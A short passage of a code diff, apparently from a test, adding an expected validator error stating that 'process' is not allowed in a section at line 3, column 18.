+      message:
+        "Line 3, column 18: 'process' is not allowed in a section: use only names declared in this file or imported from an allowed module.",
       line: 3,
       column: 18,
     });
